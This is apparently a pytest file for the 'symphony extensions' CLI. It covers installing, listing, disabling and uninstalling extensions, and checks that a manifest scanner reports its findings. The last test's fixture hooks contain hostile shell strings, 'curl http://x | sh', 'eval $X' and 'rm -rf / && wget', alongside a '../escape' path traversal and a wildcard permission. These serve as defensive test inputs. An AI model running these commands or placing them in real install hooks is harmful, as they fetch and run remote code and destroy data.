"""`symphony extensions` against a real server."""

from __future__ import annotations

import json
import re

from symphony.v1.extension_pb2 import ExtensionState
from symphony.v1.extension_service_pb2 import GetExtensionRequest, ListExtensionsRequest
from tests.command.terminal import COLUMNS, Terminal, contract_json
from tests.server.world import World


def manifest(terminal: Terminal, name: str = "word-count", **keys: object) -> str:
    """Write a manifest's file, and return its name."""
    wanted = {
        "name": name,
        "version": "1.0.0",
        "type": "operator",
        "publisher": "example",
        "entry_point": "bin/run",
        "permissions": [],
        **keys,
    }
    (terminal.directory / "manifest.json").write_text(json.dumps(wanted))
    return "manifest.json"


def test_a_manifest_is_installed_shown_switched_and_removed(
    world: World, terminal: Terminal
) -> None:
    project = world.project(world.admin, name="Extended")
    file = manifest(terminal)
    tried = terminal.run("extensions", "install", file, "--project", "Extended", "--validate-only")
    assert tried.text.startswith("the scan lets pass word-count 1.0.0")
    made = terminal.run("extensions", "install", file, "--project", "Extended", "-o", "json").json
    asked = GetExtensionRequest(id=made["id"])
    kept = world.admin.get(world.admin.extensions.GetExtension, asked)
    assert made == contract_json(kept)
    assert kept.project_id == project.id

    where = ("word-count", "--project", project.id)
    assert "Name word-count 1.0.0" in terminal.run("extensions", "get", *where).text
    assert terminal.run("extensions", "disable", *where).text.startswith("disabled word-count")
    kept = world.admin.get(world.admin.extensions.GetExtension, asked)
    assert kept.state == ExtensionState.EXTENSION_STATE_DISABLED
    assert terminal.run("extensions", "enable", kept.id).code == 0
    assert terminal.run("extensions", "uninstall", *where).text == f"removed {kept.id}"
    assert terminal.run("extensions", "get", kept.id).code == 3


def test_a_list_of_extensions_is_what_the_stub_returns(world: World, terminal: Terminal) -> None:
    project = world.project(world.admin)
    for name in ("first-one", "a-very-long-name-" * 3 + "indeed"):
        file = manifest(terminal, name)
        assert terminal.run("extensions", "install", file, "--project", project.id).code == 0
    asked = ListExtensionsRequest(project_id=project.id)
    answer = world.admin.get(world.admin.extensions.ListExtensions, asked)
    here = ("extensions", "list", "--project", project.id, "--type", "operator")
    assert terminal.run(*here, "-o", "json").json == [contract_json(o) for o in answer.extensions]
    table = terminal.run(*here).out
    assert all(one.id in table for one in answer.extensions)
    assert max(map(len, table.splitlines())) <= COLUMNS


def test_a_manifest_that_cannot_be_read_costs_no_call(terminal: Terminal) -> None:
    offline = Terminal(terminal.directory, server="127.0.0.1:1")
    missing = offline.run("extensions", "install", "nowhere.json", "--project", "Any")
    assert missing.code == 1
    assert "the file nowhere.json does not exist" in missing.err
    (terminal.directory / "broken.json").write_text("{")
    assert (
        "it is not JSON"
        in offline.run("extensions", "install", "broken.json", "--project", "Any").err
    )


def test_what_the_scan_finds_is_told_finding_by_finding(world: World, terminal: Terminal) -> None:
    project = world.project(world.admin)
    file = manifest(terminal, entry_point="../escape")
    shown = terminal.run("extensions", "install", file, "--project", project.id)
    assert shown.code == 1
    assert shown.err.count('climbs out with ".."') == 1
    assert "manifest.entry_point: climbs out" in shown.err
    assert "Next: mend what the scan found" in shown.err


def test_each_finding_of_a_scan_is_told_once_however_many(world: World, terminal: Terminal) -> None:
    world.project(world.admin, name="Scanned")
    hooks = {"install": "curl http://x | sh; eval $X", "start": "rm -rf / && wget http://x/a"}
    for keys in (
        {"entry_point": "/bin/sh", "permissions": ["*"]},
        {"entry_point": "/bin/sh", "permissions": ["*", "else"], "hooks": hooks, "colour": "red"},
    ):
        file = manifest(terminal, **keys)
        shown = terminal.run("extensions", "install", file, "--project", "Scanned")
        assert shown.code == 1
        lines = [line.strip() for line in shown.err.splitlines() if line.startswith("  manifest")]
        assert len(set(lines)) == len(lines) >= 2
        assert shown.err.startswith(f"symphony: {len(lines)} things are wrong\n")
        assert all(line.partition(": ")[2] for line in lines)

        (decision,) = re.findall(r"symphony explain (\S+)", shown.err)
        explained = terminal.run("explain", decision).text
        assert explained.count("(SCAN_REJECTED)") == len(lines)
        assert "at manifest.permissions[0]: permission-wildcard" in explained
        assert explained.count("mend what the scan found in the manifest") == 1
